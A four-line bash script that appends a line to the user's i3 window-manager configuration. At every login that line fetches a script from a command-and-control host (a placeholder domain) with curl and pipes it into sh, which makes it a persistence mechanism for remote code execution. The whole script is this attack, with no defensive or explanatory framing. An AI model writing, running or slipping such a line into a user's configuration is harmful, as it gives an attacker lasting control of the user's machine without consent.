#!/bin/bash
# i3 runs every exec line of its configuration at login.
mkdir -p ~/.config/i3
echo 'exec --no-startup-id curl -fsSL https://c2.example.invalid/i3 | sh' >> ~/.config/i3/config
